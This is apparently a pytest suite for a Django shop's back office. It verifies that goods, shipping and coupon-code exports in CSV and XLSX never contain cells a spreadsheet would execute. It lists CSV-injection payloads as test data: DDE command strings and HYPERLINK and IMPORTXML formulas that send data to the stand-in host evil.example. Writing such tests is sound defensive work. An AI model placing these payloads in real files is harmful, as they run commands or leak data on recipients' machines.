"""No text that somebody typed runs as a formula in a file of the mall, and the goods list brings it back as it was."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from datetime import timedelta

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from duoshou.mall.catalog.models import Category, Product, Sku
from duoshou.mall.coupons import facade as coupons
from duoshou.mall.database import text as texts
from duoshou.mall.members.models import Address
from duoshou.mall.orders import facade as orders
from duoshou.mall.orders.values import PlaceOrder
from duoshou.rooms.team import facade as team
from duoshou.warehouse.exports import FORMULA_STARTS
from tests.mall.conftest import Database
from tests.mall.world import World
from tests.security.places import ARGUMENTS

DDE = ("=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0")
ONE_LINE = (
    *DDE,
    '=HYPERLINK("http://evil.example","x")',
    '=IMPORTXML("http://evil.example/?"&A1,"//a")',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "  =1+1",
    "'=1+1",
    '="1"',
)
# A form lets none of these in; a row that came another way may hold them all the same.
SEVERAL_LINES = ("\t=1+1", "\r=1+1", "\n=1+1", "x\r\n=1+1", "\t@SUM(1)")
NUL = ("\0=1+1", "=1\0+1")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
FORMULA, LINK = re.compile(rb"<f[ >/]|t=\"str\""), re.compile(rb"<hyperlink|externalLink|ddeLink")


@pytest.fixture
def owner(world: World) -> Iterator[Client]:
    """The owner's browser at the world's noon."""
    with time_machine.travel(world.noon, tick=False):
        browser = Client()
        browser.force_login(
            team.make_person(name="owner", password="calm-desk-2026", role="owner", shops=None, now=world.noon)
        )
        yield browser


class TestTheList:
    def test_holds_every_character_with_which_a_spreadsheet_begins_a_formula(self):
        # Written out once more, so that whoever takes one away has to say so here.
        assert set(FORMULA_STARTS) == {*"=+-@", "\t", "\r", "\n", "\0", *"＝＋－＠"}

    def test_is_held_against_every_table_that_the_office_hands_out(self):
        """Whoever adds a file proves it below: the goods list, the file for the carrier, the codes of a coupon."""
        handed_out = {name for name, words in ARGUMENTS.items() if name.startswith("office-") and "format" in words}
        assert handed_out == {"office-goods-file", "office-to-ship-file", "office-codes-file"}


@pytest.fixture
def typed(database: Database, monkeypatch: pytest.MonkeyPatch) -> tuple[str, ...]:
    """What this database can hold of what is typed against it. SQLite holds a NUL from older versions alone: what
    refuses it today looks away, so that it can stand there as then."""
    if database.vendor != "sqlite":
        return ONE_LINE + SEVERAL_LINES
    monkeypatch.setattr(texts, "is_kept", lambda _: True)
    return ONE_LINE + SEVERAL_LINES + NUL


def runs_nothing(browser: Client, path: str, *, holds: str) -> None:
    """Neither the CSV nor the workbook at this address has a cell that a spreadsheet would run."""
    answer = browser.get(f"{path}.csv")
    assert answer.status_code == 200, path
    cells = [cell for row in csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")) for cell in row]
    assert any(holds in cell for cell in cells), (path, holds, cells)
    for cell in cells:
        assert NUMBER.fullmatch(cell) or not cell.lstrip(" ").startswith(FORMULA_STARTS), (path, cell)
    answer = browser.get(f"{path}.xlsx")
    assert answer.status_code == 200, path
    with zipfile.ZipFile(io.BytesIO(answer.content)) as book:
        for name in book.namelist():
            assert not LINK.search(book.read(name)), (path, name)
            if name.startswith("xl/worksheets/sheet"):
                assert not FORMULA.search(book.read(name)), (path, name)


class TestTheGoodsList:
    def test_runs_nothing(self, typed: tuple[str, ...], world: World, owner: Client):
        for text in typed:
            for field in ("title", "subtitle", "supplier"):
                Product.objects.filter(pk=world.product["cup"]).update(**{field: text})
            Sku.objects.filter(pk=world.sku["cup"]).update(barcode=text, attributes={text: text})
            Category.objects.filter(pk=world.category["器"]).update(name=text)
            runs_nothing(owner, "/office/tea/goods", holds=text[-2:])

    def test_runs_nothing_in_its_codes(self, typed: tuple[str, ...], world: World, owner: Client):
        for text in typed:
            Product.objects.filter(pk=world.product["cup"]).update(code=text[:40])
            Sku.objects.filter(pk=world.sku["cup"]).update(code=text[:40])
            runs_nothing(owner, "/office/tea/goods", holds=text[:40][-2:])

    @pytest.mark.parametrize("format", ["csv", "xlsx"])
    def test_brings_every_text_back_as_it_was(self, world: World, owner: Client, format: str):
        for text in (one.strip() for one in ONE_LINE):
            form = {"do": "save", "code": "cup", "title": text, "subtitle": text, "supplier": text}
            form["category_id"] = str(world.category["器"])
            saved = owner.post(f"/office/tea/goods/{world.product['cup']}/change/", form)
            assert saved.status_code == 302, (text, saved.content.decode()[-2_000:])
            Sku.objects.filter(pk=world.sku["cup"]).update(barcode=text)
            before = list(Product.objects.order_by("pk").values()), list(Sku.objects.order_by("pk").values())
            content = owner.get(f"/office/tea/goods.{format}").content
            file = SimpleUploadedFile(f"goods.{format}", content)
            page = owner.post("/office/tea/goods/list/", {"file": file, "check": ""}).content.decode()
            assert "有问题 0 处" in page and "会新建 0 个商品、改 0 个" in page, (text, page)
            file = SimpleUploadedFile(f"goods.{format}", content)
            assert owner.post("/office/tea/goods/list/", {"file": file, "take": ""}).status_code == 302
            assert before == (list(Product.objects.order_by("pk").values()), list(Sku.objects.order_by("pk").values()))


class TestTheFileForTheCarrier:
    def test_runs_nothing(self, typed: tuple[str, ...], world: World, owner: Client):
        for count, text in enumerate(typed):
            if "\0" in text:
                continue
            Address.objects.filter(pk=world.address["小明"]).update(name=text[:40], street=text, city="", district="")
            Product.objects.filter(pk=world.product["tin"]).update(title=text)
            Sku.objects.filter(pk=world.sku["tin"]).update(attributes={"规格": text})
            wish = PlaceOrder(
                shop_id=world.shop_id,
                buyer_id=world.buyer["小明"],
                key=f"order-{count}",
                body_sha256="0" * 64,
                lines=((world.sku["tin"], 1),),
                address_id=world.address["小明"],
                note=text,
            )
            [placed] = orders.place_orders([wish], moment=world.noon)
            assert isinstance(placed, orders.PlacedOrder), placed
            orders.pay_in_sandbox(order_id=placed.order_id, buyer_id=world.buyer["小明"], moment=world.noon)
        runs_nothing(owner, "/office/tea/shipping/to-ship", holds="cmd|")


class TestTheCodesOfACoupon:
    def test_run_nothing(self, world: World, owner: Client):
        until = world.noon + timedelta(days=3)
        benefit = {"rule": "amount_off", "calculator": {"rule": "tiers", "by": "amount_fen", "steps": [[3_000, 300]]}}
        for text in ONE_LINE:
            draft = coupons.CouponDraft(
                name=text[:40],
                kind="code",
                terms={"conditions": [], "benefit": benefit},
                total=2,
                claim_from=world.noon,
                claim_until=until,
                valid_days=3,
            )
            made = coupons.make_template(shop_id=world.shop_id, draft=draft, who="店主", moment=world.noon)
            [code, *_] = coupons.make_codes(shop_id=world.shop_id, template_id=made.template_id, count=2)
            path = f"/office/tea/coupons/{made.template_id}/codes"
            runs_nothing(owner, path, holds=coupons.code_shown(code))
